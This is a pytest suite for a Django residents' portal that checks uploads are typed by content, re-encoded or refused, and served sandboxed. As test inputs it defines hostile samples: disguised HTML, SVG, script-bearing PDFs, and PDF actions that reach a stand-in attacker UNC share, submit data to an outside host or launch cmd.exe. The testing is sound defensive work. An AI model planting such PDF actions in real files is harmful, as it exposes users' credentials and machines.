"""Files owners and staff upload never run script on the site: their type comes from their
content, only re-encoded pictures are shown inline, and every response is sandboxed."""

from email.message import EmailMessage

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from cases import casework, mailbox
from cases.models import Case, CaseAttachment, Category
from portal.tests.samples import HTML, HTML_WITH_PDF_HEADER, SVG, pdf_bytes, picture_bytes

pytestmark = pytest.mark.django_db

SANDBOX = "sandbox; default-src 'none'"


def assert_sandboxed(response):
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Security-Policy"] == SANDBOX


@pytest.fixture
def repairs(db):
    return Category.objects.get(name="维修报修")


def file_a_case(client, repairs, *attachments):
    return client.post(
        reverse("cases:new"),
        {
            "kind": "complaint",
            "category": repairs.pk,
            "subject": "卫生间漏水",
            "description": "楼上漏水。",
            "attachments": list(attachments),
        },
    )


HOSTILE = {
    "html with a pdf header, typed as a picture": (
        "scan.pdf",
        HTML_WITH_PDF_HEADER,
        "image/jpeg, text/html",
        "damaged",
    ),
    "svg": ("plan.svg", SVG, "image/svg+xml", "neither a photo nor a PDF"),
    "html named .jpg": ("photo.jpg", HTML, "image/jpeg", "neither a photo nor a PDF"),
    "pdf with javascript": (
        "invoice.pdf",
        pdf_bytes(javascript="app.alert('pdf js')"),
        "application/pdf",
        "script",
    ),
    "pdf with an embedded file": (
        "invoice.pdf",
        pdf_bytes(embedded=HTML),
        "application/pdf",
        "embedded files",
    ),
    "pdf with a password": (
        "invoice.pdf",
        pdf_bytes(password="1234"),
        "application/pdf",
        "password",
    ),
}


@pytest.mark.parametrize("name, data, declared, reason", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_files_are_refused_with_a_clear_message_and_nothing_is_filed(
    client, verified_owner, repairs, name, data, declared, reason
):
    client.force_login(verified_owner)
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    upload = SimpleUploadedFile(name, data, content_type=declared)
    response = file_a_case(client, repairs, upload)
    assert response.status_code == 200
    errors = " ".join(response.context["form"].errors["attachments"])
    assert name in errors and reason in errors
    assert not Case.objects.exists() and not CaseAttachment.objects.exists()


UNC = r"\\files.attacker.example\share\invoice.pdf"  # Windows offers credentials to it
REFUSED_ACTIONS = {
    "opens a file on another computer when opened": {
        "opens": {"/S": "/GoToR", "/F": UNC, "/D": [0, "/Fit"]}
    },
    "link to another file": {"link": {"/S": "/GoToR", "/F": UNC, "/D": [0, "/Fit"]}},
    "link into an embedded file": {"link": {"/S": "/GoToE", "/F": UNC, "/D": [0, "/Fit"]}},
    "imports form data": {"link": {"/S": "/ImportData", "/F": UNC}},
    "submits a form": {"link": {"/S": "/SubmitForm", "/F": "https://collect.example/"}},
    "launches a program": {"link": {"/S": "/Launch", "/F": "cmd.exe"}},
    "article thread in another file": {"link": {"/S": "/Thread", "/F": UNC, "/D": 0}},
    "plays a sound": {"opens": {"/S": "/Sound"}},
    "plays a movie": {"link": {"/S": "/Movie", "/T": "clip"}},
}
PLAIN_ACTIONS = {
    "link to a web page": {"link": {"/S": "/URI", "/URI": "https://www.jindu.example/"}},
    "link within the file": {"opens": {"/S": "/GoTo", "/D": [0, "/Fit"]}},
    "article thread within the file": {"link": {"/S": "/Thread", "/D": 0}},
    "shows or hides a field": {"link": {"/S": "/Hide", "/T": "note"}},
    "menu command": {"link": {"/S": "/Named", "/N": "/Print"}},
}


@pytest.mark.parametrize("actions", REFUSED_ACTIONS.values(), ids=REFUSED_ACTIONS.keys())
def test_pdfs_that_reach_other_files_or_send_data_are_refused(
    client, verified_owner, repairs, actions
):
    client.force_login(verified_owner)
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    upload = SimpleUploadedFile("bill.pdf", pdf_bytes(**actions), content_type="application/pdf")
    response = file_a_case(client, repairs, upload)
    assert response.status_code == 200
    errors = " ".join(response.context["form"].errors["attachments"])
    assert "bill.pdf" in errors and "actions" in errors
    assert not Case.objects.exists()


@pytest.mark.parametrize("actions", PLAIN_ACTIONS.values(), ids=PLAIN_ACTIONS.keys())
def test_pdfs_with_ordinary_links_are_accepted(client, verified_owner, repairs, actions):
    client.force_login(verified_owner)
    upload = SimpleUploadedFile("bill.pdf", pdf_bytes(**actions), content_type="application/pdf")
    assert file_a_case(client, repairs, upload).status_code == 302
    assert CaseAttachment.objects.get().verified_type == "application/pdf"


def test_the_action_itself_refuses_an_unchecked_file(verified_owner, repairs):
    """Code that files a case without a form gets the same check."""
    with pytest.raises(casework.CaseError):
        casework.file_case(
            verified_owner,
            kind="complaint",
            category=repairs,
            subject="x",
            description="y",
            files=[SimpleUploadedFile("a.pdf", HTML_WITH_PDF_HEADER, content_type="image/jpeg")],
        )
    assert not Case.objects.exists()


def test_a_plain_pdf_is_kept_and_served_as_a_download_whatever_the_browser_said(
    client, verified_owner, repairs, staff
):
    client.force_login(verified_owner)
    upload = SimpleUploadedFile("发票.PDF", pdf_bytes(), content_type="text/html")
    assert file_a_case(client, repairs, upload).status_code == 302
    stored = CaseAttachment.objects.get()
    assert (stored.name, stored.verified_type) == ("发票.pdf", "application/pdf")

    for viewer in (verified_owner, staff("Customer service")):
        client.force_login(viewer)
        response = client.get(stored.get_absolute_url())
        assert response.status_code == 200
        assert response["Content-Type"] == "application/pdf"
        assert response["Content-Disposition"].startswith("attachment;")
        assert_sandboxed(response)
        assert "private" in response["Cache-Control"]
        assert b"".join(response.streaming_content) == stored.file.open("rb").read()


def test_a_picture_is_re_encoded_and_shown_inline_as_what_it_now_is(
    client, verified_owner, repairs
):
    client.force_login(verified_owner)
    upload = SimpleUploadedFile("门口.gif", picture_bytes("GIF"), content_type="text/html")
    assert file_a_case(client, repairs, upload).status_code == 302
    stored = CaseAttachment.objects.get()
    assert (stored.name, stored.verified_type) == ("门口.jpg", "image/jpeg")
    response = client.get(stored.get_absolute_url())
    assert response["Content-Type"] == "image/jpeg"
    assert response["Content-Disposition"].startswith("inline")
    assert b"".join(response.streaming_content).startswith(b"\xff\xd8")  # a JPEG, as it says
    assert_sandboxed(response)


def test_an_email_keeps_its_good_attachments_and_notes_the_refused_ones(verified_owner):
    message = EmailMessage()
    message["From"], message["To"] = verified_owner.email, "complaints@jindu.example"
    message["Subject"], message["Message-ID"] = "地库积水", "<files@owner.example>"
    message.set_content("B2 地库积水。")
    message.add_attachment(pdf_bytes(), maintype="application", subtype="pdf", filename="收据.pdf")
    message.add_attachment(
        HTML_WITH_PDF_HEADER, maintype="application", subtype="pdf", filename="照片.pdf"
    )
    message.add_attachment(SVG, maintype="image", subtype="svg+xml", filename="plan.svg")

    assert mailbox.handle(message.as_bytes())

    case = Case.objects.get()
    assert [(a.name, a.verified_type) for a in case.attachments.all()] == [
        ("收据.pdf", "application/pdf")
    ]
    assert "B2 地库积水" in case.description
    assert "照片.pdf" in case.description and "plan.svg" in case.description


def test_an_avatar_under_media_is_an_inline_picture_sandboxed(owner_client, owner):
    response = owner_client.post(
        reverse("owners:profile"),
        {
            "real_name": "王建国",
            "mobile": "13800138000",
            "language": "zh-hans",
            "email_notifications": "immediately",
            "avatar": SimpleUploadedFile("me.png", picture_bytes("PNG"), content_type="text/html"),
        },
    )
    assert response.status_code == 302
    owner.refresh_from_db()
    response = owner_client.get(owner.avatar.url)
    assert response.status_code == 200
    assert response["Content-Type"] == "image/jpeg" and owner.avatar.name.endswith(".jpg")
    assert_sandboxed(response)


@pytest.mark.parametrize("svg", [SVG, b"<?xml version='1.0'?>" + SVG])
def test_an_svg_avatar_is_refused(owner_client, owner, svg):
    upload = SimpleUploadedFile("me.svg", svg, content_type="image/svg+xml")
    data = {"real_name": "王建国", "mobile": "13800138000", "language": "zh-hans"}
    response = owner_client.post(
        reverse("owners:profile"), {**data, "email_notifications": "immediately", "avatar": upload}
    )
    assert response.status_code == 200
    owner.refresh_from_db()
    assert not owner.avatar


def test_media_serves_only_pictures_inline_and_never_cms_documents(client, settings):
    (settings.MEDIA_ROOT / "documents").mkdir(parents=True)
    (settings.MEDIA_ROOT / "documents" / "members.pdf").write_bytes(pdf_bytes())
    (settings.MEDIA_ROOT / "stray.html").write_bytes(HTML)
    (settings.MEDIA_ROOT / "stray.svg").write_bytes(SVG)

    # Wagtail's /documents/ checks who may read a document; its file has no public address.
    for path in ("documents/members.pdf", "./documents/members.pdf", "x/../documents/members.pdf"):
        assert client.get(f"/media/{path}").status_code == 404
    for name in ("stray.html", "stray.svg"):
        response = client.get(f"/media/{name}")
        assert response["Content-Type"] == "application/octet-stream"
        assert response["Content-Disposition"] == "attachment"
        assert_sandboxed(response)
